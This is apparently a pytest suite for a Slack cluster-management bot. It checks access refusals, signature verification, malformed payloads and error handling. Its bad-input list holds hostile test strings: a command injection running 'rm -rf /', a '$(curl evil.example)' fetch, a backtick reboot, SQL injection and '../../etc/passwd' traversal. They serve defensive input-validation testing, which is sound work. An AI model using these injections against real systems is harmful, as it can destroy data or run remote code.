"""Refusals reveal nothing; bad input gets one message with a Usage line and changes nothing; forged or
stale signatures get 401 and cause nothing."""

from __future__ import annotations

import time
from typing import Any

import pytest

from bot.slack.blocks import CANCEL_ACTION
from sandbox.world import SIGNING_SECRET, Sandbox
from storage import crud
from tests.conftest import SeededAws
from tests.scenarios.conftest import ADMIN, COORDINATION, ask, body
from tests.waiting import wait_for

BOB = "U0BOB0001"  # viewer of kumo-labs
KUMO_CHANNEL, SAKURA_CHANNEL = "C0KUMOLAB", "C0SAKURA1"
GUEST = "U0GUEST01"


@pytest.mark.parametrize("subcommand", ["status", "nodes", "throughput"])
async def test_viewer_learns_nothing_about_another_orgs_cluster(sandbox: Sandbox, subcommand: str) -> None:
    foreign = await ask(sandbox, user=BOB, channel=SAKURA_CHANNEL, text=f"{subcommand} sakura-trn1-pretrain")
    missing = await ask(sandbox, user=BOB, channel=SAKURA_CHANNEL, text=f"{subcommand} no-such-cluster")
    assert body(foreign).replace("sakura-trn1-pretrain", "X") == body(missing).replace("no-such-cluster", "X")
    qualified = await ask(sandbox, user=BOB, channel=KUMO_CHANNEL, text=f"{subcommand} sakura-ai/sakura-trn1-pretrain")
    invented = await ask(sandbox, user=BOB, channel=KUMO_CHANNEL, text=f"{subcommand} nowhere-org/sakura-trn1-pretrain")
    assert body(qualified).replace("sakura-ai", "X") == body(invented).replace("nowhere-org", "X")
    for reply in (foreign, qualified):
        assert "ml.trn1" not in body(reply) and "InService" not in body(reply) and "i-" not in body(reply)


async def test_listing_another_org_is_refused_like_a_missing_org(sandbox: Sandbox) -> None:
    real = await ask(sandbox, user=BOB, channel=KUMO_CHANNEL, text="list sakura-ai")
    fake = await ask(sandbox, user=BOB, channel=KUMO_CHANNEL, text="list no-such-org")
    assert body(real).replace("sakura-ai", "X") == body(fake).replace("no-such-org", "X")
    assert "sakura-trn1" not in body(real)


@pytest.mark.parametrize("text", ["list all", "help", "status kumo-p5-train", "", "frobnicate"])
async def test_user_in_no_org_is_refused(sandbox: Sandbox, text: str) -> None:
    reply = await ask(sandbox, user=GUEST, channel=KUMO_CHANNEL, text=text)
    assert "not a member of any organization" in body(reply)
    assert reply.kind == "ephemeral" and "kumo" not in body(reply)


BAD_INPUT = [
    "",
    "   ",
    "frobnicate",
    "status",
    "nodes",
    "status a b",
    "list a b c",
    "x" * 4000,
    "status クラスタ名",
    "status 🚀",
    "status x; rm -rf / #",
    "status $(curl evil.example)",
    "status `reboot`",
    "status '; DROP TABLE audit_log; --",
    "list ' OR 1=1 --",
    "nodes c1 --fialed",
    'status "unclosed',
    "status <!channel>",
    "status ../../etc/passwd",
    "delete kumo-p5-train kumo-p5-dev",
    "scale kumo-p5-train worker-group-1 lots",
    "scale kumo-p5-train no-such-group 4",
    "replace kumo-p5-train node-1",
    "reboot kumo-p5-train i-0123456789abcdef0",
    "launch hyperpod-p5 big --count 999",
]


@pytest.mark.parametrize("text", BAD_INPUT, ids=lambda t: repr(t[:24]))
async def test_bad_input_gets_one_usage_message_and_changes_nothing(
    sandbox: Sandbox, seeded_aws: SeededAws, text: str
) -> None:
    before = seeded_aws.state()
    reply = await ask(sandbox, user=ADMIN, channel=COORDINATION, text=text)
    assert reply.kind == "ephemeral"
    assert "Usage:" in reply.text and "/cluster" in reply.text
    assert "Traceback" not in body(reply) and "Error:" not in body(reply)
    assert "<!channel>" not in body(reply)
    assert seeded_aws.state() == before


async def test_unknown_cluster_says_so_and_how_to_find_names(sandbox: Sandbox) -> None:
    reply = await ask(sandbox, user=ADMIN, channel=COORDINATION, text="status no-such-cluster")
    assert "No cluster `no-such-cluster`" in body(reply) and "/cluster list" in body(reply)


def _signed_headers_sent(sandbox: Sandbox) -> int:
    return len([m for m in sandbox.slack.messages if m.user == sandbox.slack.bot_user_id])


@pytest.mark.parametrize(
    ("secret", "age_seconds"),
    [("not-the-secret", 0), (SIGNING_SECRET, 6 * 60)],
    ids=["forged", "six-minutes-old"],
)
async def test_bad_signature_gets_401_and_causes_nothing(
    sandbox: Sandbox, seeded_aws: SeededAws, secret: str, age_seconds: int
) -> None:
    before = seeded_aws.state()
    response = await sandbox.slack.send_command(
        user_id=ADMIN,
        channel_id=COORDINATION,
        command="/cluster",
        text="list all",
        signing_secret=secret,
        timestamp=int(time.time()) - age_seconds,
    )
    assert response.status_code == 401
    await sandbox.pitcrew.services.drain()
    assert _signed_headers_sent(sandbox) == 0
    assert not [call for call in sandbox.slack.calls if call.method == "response_url"]
    assert seeded_aws.state() == before


async def test_unsigned_request_gets_401(sandbox: Sandbox) -> None:
    import httpx

    form = sandbox.slack.slash_command_form(user_id=ADMIN, channel_id=COORDINATION, command="/cluster", text="list")
    async with httpx.AsyncClient() as client:
        response = await client.post(f"{sandbox.bot_url}/slack/events", data=form)
    assert response.status_code == 401
    await sandbox.pitcrew.services.drain()
    assert not [call for call in sandbox.slack.calls if call.method == "response_url"]


async def test_healthz_is_ready_once_started(sandbox: Sandbox) -> None:
    import httpx

    async with httpx.AsyncClient() as client:
        response = await client.get(f"{sandbox.bot_url}/healthz")
    assert response.status_code == 200 and response.json()["orgs"] == 12


async def test_an_internal_error_is_one_plain_message_not_a_trace(sandbox: Sandbox, monkeypatch: Any) -> None:
    async def broken(*_: Any, **__: Any) -> None:
        raise RuntimeError("a bug in Pitcrew, with a secret in its message")

    monkeypatch.setattr(sandbox.pitcrew.services.fleet, "find", broken)
    reply = await ask(sandbox, user=ADMIN, channel=COORDINATION, text="status kumo-p5-train")
    assert "internal error" in body(reply) and "secret" not in body(reply) and "Traceback" not in body(reply)

    async def audited() -> list[Any] | None:  # the row is recorded just after the reply is sent
        await sandbox.pitcrew.services.drain()
        async with sandbox.pitcrew.services.db.session() as session:
            return list(await crud.audit_entries(session)) or None

    entries = await wait_for(audited, what="the command's audit row")
    assert [(e.text, e.outcome) for e in entries] == [("status kumo-p5-train", "failed")]


async def test_a_click_that_fails_unexpectedly_is_audited_failed_and_told_plainly(
    sandbox: Sandbox, monkeypatch: Any
) -> None:
    """A listener's unexpected failure goes to the one error boundary: audited as failed (it was recorded as
    "answered; nothing changed"), and the clicker gets one plain message, never a trace or "internal error"."""

    async def broken(*_: Any, **__: Any) -> None:
        raise RuntimeError("a bug in Pitcrew, with a secret in its message")

    alice = "U0ALICE01"
    plan = await ask(sandbox, user=alice, channel=KUMO_CHANNEL, text="scale kumo-p5-train worker-group-1 34")
    monkeypatch.setattr(sandbox.pitcrew.services.operations, "cancel", broken)
    await sandbox.slack.click(user_id=alice, message=plan, action_id=CANCEL_ACTION)
    told = await sandbox.slack.wait_for(lambda m: m.ephemeral_to == alice and "could not" in m.text, timeout=15)
    assert "secret" not in body(told) and "internal error" not in body(told) and "Traceback" not in body(told)

    async def failed_click() -> list[Any] | None:
        await sandbox.pitcrew.services.drain()
        async with sandbox.pitcrew.services.db.session() as session:
            rows = [e for e in await crud.audit_entries(session) if e.command == CANCEL_ACTION]
        return rows or None

    (entry,) = await wait_for(failed_click, what="the failed click's audit row")
    assert (entry.user_id, entry.outcome) == (alice, "failed")


# ------------------------------------------------------------------ names that match nothing (issue 11)


async def test_an_admin_naming_an_org_that_does_not_exist_is_told_which_exist(sandbox: Sandbox) -> None:
    reply = await ask(sandbox, user=ADMIN, channel=COORDINATION, text="list nosuch-org")
    text = body(reply)
    assert "There is no org `nosuch-org`" in text and "`kumo-labs`" in text and "internal error" not in text
    typo = await ask(sandbox, user=ADMIN, channel=COORDINATION, text="list kumo-lab")
    assert "Did you mean `kumo-labs`?" in body(typo)
    week = await ask(sandbox, user=ADMIN, channel=COORDINATION, text="list --public 2026-W1")
    assert "There is no org `2026-w1`" in body(week) and week.kind == "ephemeral"
    launch = await ask(
        sandbox, user=ADMIN, channel=COORDINATION, text="launch hyperpod-p5 x --org nosuch-org --dry-run"
    )
    assert launch.text.strip() and "There is no org `nosuch-org`" in body(launch)
    for command, text in (("/track", "show kumo-lab"), ("/digest", "preview kumo-lab")):
        reply = await ask(sandbox, user=ADMIN, channel=COORDINATION, text=text, command=command)
        assert "There is no org `kumo-lab`" in body(reply) and "Did you mean `kumo-labs`?" in body(reply)


async def test_an_org_a_viewer_cannot_see_gets_the_same_words_whether_it_exists_or_not(sandbox: Sandbox) -> None:
    real = await ask(sandbox, user=BOB, channel=KUMO_CHANNEL, text="show sakura-ai", command="/track")
    fake = await ask(sandbox, user=BOB, channel=KUMO_CHANNEL, text="show sakura-ia", command="/track")
    assert body(real).replace("sakura-ai", "X") == body(fake).replace("sakura-ia", "X")
    assert "`kumo-labs`" in body(real), "their own orgs, to help"
    typo = await ask(sandbox, user=BOB, channel=KUMO_CHANNEL, text="list kumo-lab")
    assert "Did you mean `kumo-labs`?" in body(typo)


async def test_a_cluster_typo_gets_the_clusters_you_can_see_and_a_suggestion_among_them(sandbox: Sandbox) -> None:
    typo = await ask(sandbox, user=ADMIN, channel=COORDINATION, text="status kumo-p5-trian")
    assert "Did you mean `kumo-p5-train`?" in body(typo) and "Clusters you can see" in body(typo)
    # A viewer's near miss of another org's cluster suggests nothing of it: refusals reveal nothing.
    foreign = await ask(sandbox, user=BOB, channel=KUMO_CHANNEL, text="status sakura-trn1-pretrian")
    assert "sakura" not in body(foreign).replace("sakura-trn1-pretrian", "")
    assert "`kumo-p5-train`" in body(foreign)


async def test_track_require_refuses_keys_it_does_not_know_unless_written_as_your_own(sandbox: Sandbox) -> None:
    alice = "U0ALICE01"
    refused = await ask(sandbox, user=alice, channel=KUMO_CHANNEL, text="require colour=blue", command="/track")
    assert "`colour` is not a requirement Pitcrew knows" in body(refused) and "`model_size`" in body(refused)
    assert "x-colour=" in body(refused) and "Usage:" in refused.text
    stored = await ask(sandbox, user=alice, channel=KUMO_CHANNEL, text="require x-colour=blue", command="/track")
    assert "x-colour" in body(stored) and "blue" in body(stored)


# ------------------------------------------------------------------ requests that are no Slack payload (issue 11)


async def _post(sandbox: Sandbox, content: str, headers: dict[str, str]) -> Any:
    import httpx

    raw = {name: value.encode() for name, value in headers.items()}  # as bytes: a header may hold any text
    async with httpx.AsyncClient() as client:
        return await client.post(f"{sandbox.bot_url}/slack/events", content=content.encode(), headers=raw)


@pytest.mark.parametrize("timestamp", ["soon", "", "\uff11\uff12\uff13", "\u00b2", "9" * 40, "1.5", "-5"])
async def test_a_malformed_timestamp_gets_401(sandbox: Sandbox, timestamp: str) -> None:
    from sandbox.slack import signed_headers

    headers = signed_headers("command=%2Fcluster", secret=SIGNING_SECRET, timestamp=int(time.time()))
    headers["X-Slack-Request-Timestamp"] = timestamp
    response = await _post(sandbox, "command=%2Fcluster", headers)
    assert response.status_code == 401


@pytest.mark.parametrize(
    "content",
    [
        "",
        "payload=notjson",
        "payload=null",
        "payload=%5B1%2C2%5D",
        "payload=%22text%22",
        "token=x&team_id=T1",
        "payload=" + "%5B" * 3000,
    ],
)
async def test_a_signed_body_that_is_no_slack_payload_gets_400(sandbox: Sandbox, content: str) -> None:
    from sandbox.slack import signed_headers

    headers = signed_headers(content, secret=SIGNING_SECRET, timestamp=int(time.time()))
    response = await _post(sandbox, content, headers)
    assert response.status_code == 400, response.text


def _view_submission(user: dict[str, Any] | None, state: Any) -> dict[str, Any]:
    payload: dict[str, Any] = {
        "type": "view_submission",
        "team": {"id": "T0PITCREW"},
        "view": {"id": "V0BAD", "callback_id": "track_add_record", "type": "modal", "state": state},
    }
    if user is not None:
        payload["user"] = user
    return payload


def _click(**changes: Any) -> dict[str, Any]:
    action = {"action_id": "operation_confirm", "block_id": "b", "type": "button", "value": "x"}
    payload: dict[str, Any] = {
        "type": "block_actions",
        "user": {"id": ADMIN},
        "team": {"id": "T0PITCREW"},
        "container": {"type": "message", "message_ts": "1.0", "channel_id": COORDINATION},
        "response_url": "https://hooks.slack.invalid/response/1",
        "actions": [action],
    }
    for key, value in changes.items():
        if key == "action":
            payload["actions"] = [value]
        elif value is None:
            del payload[key]
        else:
            payload[key] = value
    return payload


@pytest.mark.parametrize(
    "payload",
    [
        _view_submission({"id": "U0ALICE01"}, "values"),
        _view_submission({"id": "U0ALICE01"}, None),
        _view_submission({"id": "U0ALICE01"}, {"values": [1, 2]}),
        _view_submission({"id": "U0ALICE01"}, {"values": {"kind": {"kind": {"selected_option": "note"}}}}),
        _view_submission(None, {"values": {}}),
        _view_submission({"id": 7}, {"values": {}}),
        _click(action={"block_id": "b", "type": "button", "value": "x"}),
        _click(user=None),
        _click(response_url=None),
        _click(user="U0ADMIN01"),
        _click(actions=[]),
    ],
    ids=[
        "state-string",
        "state-null",
        "values-not-object",
        "selected-option-string",
        "no-user",
        "user-id-number",
        "no-action-id",
        "click-no-user",
        "click-no-response-url",
        "click-user-string",
        "no-actions",
    ],
)
async def test_a_payload_not_shaped_as_slack_sends_it_gets_400_at_once(
    sandbox: Sandbox, seeded_aws: SeededAws, payload: dict[str, Any]
) -> None:
    import json
    from urllib.parse import urlencode

    from sandbox.slack import signed_headers

    before = seeded_aws.state()
    content = urlencode({"payload": json.dumps(payload)})
    headers = signed_headers(content, secret=SIGNING_SECRET, timestamp=int(time.time()))
    started = time.monotonic()
    response = await _post(sandbox, content, headers)
    assert response.status_code == 400 and time.monotonic() - started < 3.0
    await sandbox.pitcrew.services.drain()
    assert _signed_headers_sent(sandbox) == 0 and seeded_aws.state() == before


async def test_a_command_whose_text_says_payload_is_answered(sandbox: Sandbox) -> None:
    """Bolt's own body parser takes any body containing "payload" for an interaction, and dropped these."""
    reply = await ask(sandbox, user=ADMIN, channel=COORDINATION, text="status payload")
    assert "No cluster `payload`" in body(reply)


async def test_an_error_behind_a_listener_is_one_plain_message_below_500_and_audited(
    sandbox: Sandbox, monkeypatch: Any
) -> None:
    def broken(**_: Any) -> None:
        raise RuntimeError("a bug in Pitcrew, with a secret in its message")

    home = await ask(sandbox, user="U0ALICE01", channel=KUMO_CHANNEL, text="", command="/track")
    await sandbox.slack.click(user_id="U0ALICE01", message=home, action_id="track_add")
    view = await sandbox.slack.wait_for_view(user_id="U0ALICE01", callback_id="track_add_record")
    monkeypatch.setattr(sandbox.pitcrew.services.access, "decide", broken)  # fails before the listener acks
    response = await sandbox.slack.submit_view(
        user_id="U0ALICE01",
        view_id=view["id"],
        values={"kind": {"kind": "note"}, "org": {"org": "kumo-labs"}, "text": {"text": "hello"}},
    )
    assert response.status_code == 200
    shown = " ".join(sandbox.slack.open_views[view["id"]]["errors"].values())
    assert "could not handle that form" in shown and "secret" not in shown and "internal error" not in shown
    await sandbox.pitcrew.services.drain()
    await sandbox.pitcrew.services.audit.flush()
    async with sandbox.pitcrew.services.db.session() as session:
        entries = await crud.audit_entries(session)
    assert ("track_add_record", "failed") in [(e.command, e.outcome) for e in entries]


async def test_a_button_of_an_older_version_is_answered_and_audited_and_an_event_gets_200(sandbox: Sandbox) -> None:
    import json

    from sandbox.slack import signed_headers

    home = await ask(sandbox, user="U0ALICE01", channel=KUMO_CHANNEL, text="", command="/track")
    home.blocks.append({"type": "actions", "elements": [{"type": "button", "action_id": "gone_button", "value": "1"}]})
    before = len(sandbox.slack.messages)
    response = await sandbox.slack.click(user_id="U0ALICE01", message=home, action_id="gone_button")
    assert response.status_code == 200
    answer = await sandbox.slack.wait_for(lambda m: m.via == "response_url", since=before)
    assert "does not know this button" in body(answer)
    await sandbox.pitcrew.services.drain()
    await sandbox.pitcrew.services.audit.flush()
    async with sandbox.pitcrew.services.db.session() as session:
        entries = await crud.audit_entries(session)
    assert ("gone_button", "invalid") in [(e.command, e.outcome) for e in entries]
    event = {
        "type": "event_callback",
        "team_id": "T0PITCREW",
        "event": {"type": "app_home_opened", "user": "U0BOB0001"},
    }
    content = json.dumps(event)
    headers = signed_headers(content, secret=SIGNING_SECRET, timestamp=int(time.time()))
    headers["Content-Type"] = "application/json"
    assert (await _post(sandbox, content, headers)).status_code == 200, "Slack disables apps whose events fail"


async def test_throughput_of_a_cluster_that_does_not_exist_names_the_clusters_you_can_see(sandbox: Sandbox) -> None:
    typo = body(await ask(sandbox, user=BOB, channel=KUMO_CHANNEL, text="throughput kumo-p5-trian"))
    assert "Clusters you can see" in typo and "`kumo-p5-train`" in typo, typo
    assert "Did you mean `kumo-p5-train`?" in typo and "sakura" not in typo
    nothing = body(await ask(sandbox, user=BOB, channel=KUMO_CHANNEL, text="throughput nosuch-cluster"))
    assert "Clusters you can see" in nothing and "`kumo-p5-train`" in nothing, nothing
    # A cluster that exists but has had no samples is told so, not "not found".
    quiet = body(await ask(sandbox, user=BOB, channel=KUMO_CHANNEL, text="throughput kumo-p5-train"))
    assert "No throughput samples for `kumo-p5-train`" in quiet and "Clusters you can see" not in quiet, quiet
